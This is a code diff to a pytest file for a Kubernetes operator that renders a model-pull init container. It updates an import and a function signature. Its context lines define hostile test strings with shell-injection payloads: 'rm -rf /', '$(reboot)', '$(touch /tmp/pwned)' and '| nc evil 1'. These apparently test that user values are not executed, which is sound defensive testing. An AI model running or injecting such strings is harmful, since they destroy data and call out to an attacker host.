@@ -17,8 +17,8 @@ import pytest
 from render_cases import builtin_config, case, containers, make_model, make_plan
 
 from slm_operator.render import render_children
-from slm_operator.render.containers import PULL_SCRIPT
 from slm_operator.render.deployment import render_deployment
+from slm_operator.render.ollama import PULL_SCRIPT
 
 HOSTILE_SYSTEM = "$(touch /tmp/pwned) `id` ; rm -rf / # \"quoted\" 'single' && echo"
 HOSTILE_MESSAGE = "${HOME} $(reboot) | nc evil 1"
@@ -26,7 +26,7 @@ HOSTILE_MESSAGE = "${HOME} $(reboot) | nc evil 1"
 
 def pull_container(model_spec: dict[str, Any], **plan: Any) -> dict[str, Any]:
     model = make_model(**model_spec)
-    return containers(render_deployment(model, make_plan(model, **plan), builtin_config()))["pull-model"]
+    return containers(render_deployment(make_plan(model, **plan), builtin_config()))["pull-model"]
 
 
 def test_init_container_runs_the_constant_script_with_values_in_env() -> None:
@@ -210,8 +210,8 @@ def test_script_gives_up_when_the_server_never_answers(tmp_path: Path) -> None:
 def test_closed_egress_pulls_only_when_missing_and_claims_never_pull() -> None:
     closed = pull_container({"hardware": {"tier": "cpu"}, "network": {"allowEgress": False}})
     assert {e["name"]: e["value"] for e in closed["env"]}["PULL_POLICY"] == "if-missing"
-    model, plan = case("ollama-pvc-source").build()
-    init = containers(render_deployment(model, plan, builtin_config()))["pull-model"]
+    _model, plan = case("ollama-pvc-source").build()
+    init = containers(render_deployment(plan, builtin_config()))["pull-model"]
     env = {e["name"]: e["value"] for e in init["env"]}
     assert env["PULL_POLICY"] == "never"
     assert env["MODELFILE"] == "/etc/slm/modelfile/Modelfile"
